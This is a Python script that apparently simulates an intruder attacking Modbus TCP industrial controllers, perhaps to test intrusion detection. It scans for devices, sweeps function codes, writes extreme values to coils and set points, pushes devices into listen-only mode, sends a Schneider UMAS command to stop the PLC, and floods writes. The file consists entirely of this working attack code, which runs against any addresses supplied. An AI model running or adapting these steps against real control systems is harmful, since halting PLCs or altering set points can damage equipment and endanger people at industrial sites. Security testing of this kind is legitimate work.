#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What an intruder in the SCADA zone does to a Modbus device; every step is bounded.

usage: attack.py STEP ADDRESS...      (raw TCP sockets; nothing is exploited)

scan    which of the addresses listen on 502; then which units answer at those that do
sweep   function codes 1..127 with a plausible body; exceptions tell what is there
writes  FC 5, 6, 15, 16, 22, 23 to outputs and set points
stop    FC 8: restart communications, clear counters, listen only; FC 90 (UMAS) as Schneider's tools send it
flood   150 writes as fast as the socket takes them, then 150 reads, 25 to a segment
"""
import socket
import struct
import sys

import wire

BODY = {  # of known functions, [APP] 6; the rest get nothing but their code
    1: struct.pack(">HH", 0, 1), 2: struct.pack(">HH", 0, 1), 3: struct.pack(">HH", 0, 1), 4: struct.pack(">HH", 0, 1),
    5: struct.pack(">HH", 0, 0xFF00), 6: struct.pack(">HH", 0, 0), 8: struct.pack(">HH", 0, 0x1234),
    15: struct.pack(">HHBB", 0, 1, 1, 1), 16: struct.pack(">HHBH", 0, 1, 2, 0),
    20: struct.pack(">BBHHH", 7, 6, 1, 0, 1), 21: struct.pack(">BBHHHH", 9, 6, 1, 0, 1, 0),
    22: struct.pack(">HHH", 0, 0xFFFF, 0), 23: struct.pack(">HHHHBH", 0, 1, 0, 1, 2, 0),
    24: struct.pack(">H", 0), 43: struct.pack(">BBB", 14, 1, 0),
}


def ask(s, txn, pdu, unit=1):
    s.sendall(wire.adu(txn, unit, pdu))
    return wire.answers(s, 1)


def scan(*addresses):
    alive = []
    for address in addresses:
        try:
            wire.connect(address, timeout=0.15).close()
            alive.append(address)
        except OSError:
            pass
    for address in alive:
        for unit in (0, 1, 2, 3, 4, 5, 10, 100, 247, 255):
            s = wire.connect(address, timeout=0.05)
            ask(s, unit, b"\x2b\x0e\x01\x00", unit)
            s.close()


def sweep(address):
    s = wire.connect(address)
    for code in range(1, 128):
        if not ask(s, code, bytes([code]) + BODY.get(code, b"")):
            s.close()
            s = wire.connect(address)
    s.close()


def writes(address):
    s = wire.connect(address)
    steps = [wire.write_one(5, 0, 0xFF00), wire.write_one(5, 1, 0xFF00), wire.write_one(6, 100, 65535),
             wire.write_one(6, 119, 0), wire.write_coils(0, [1] * 16), wire.write_words(100, [9999] * 8),
             struct.pack(">BHHH", 22, 100, 0, 0xFFFF),
             struct.pack(">BHHHHB2H", 23, 0, 10, 300, 2, 4, 0xDEAD, 0xBEEF)]
    for txn, pdu in enumerate(steps, 0x41):
        ask(s, txn, pdu)
    s.close()


def stop(address):
    s = wire.connect(address)
    ask(s, 1, struct.pack(">BHH", 8, 1, 0xFF00))
    ask(s, 2, struct.pack(">BHH", 8, 10, 0))
    ask(s, 3, struct.pack(">BHH", 8, 4, 0))           # has no answer
    s.close()
    s = wire.connect(address)
    ask(s, 4, b"\x5a\x00\x02")                        # UMAS: identify
    ask(s, 5, b"\x5a\x00\x41\xff\x00")                # UMAS: stop the PLC
    s.close()


def flood(address):
    s = wire.connect(address)
    txn = 0
    for make in lambda i: wire.write_one(6, 100 + i % 20, i), lambda i: wire.read(3, i % 100, 2):
        for _ in range(6):
            out = b""
            for i in range(25):
                txn += 1
                out += wire.adu(txn, 1, make(i))
            s.sendall(out)
            wire.answers(s, 25)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()                                         # by RST


step, *targets = sys.argv[1:]
{f.__name__: f for f in (scan, sweep, writes, stop, flood)}[step](*targets)
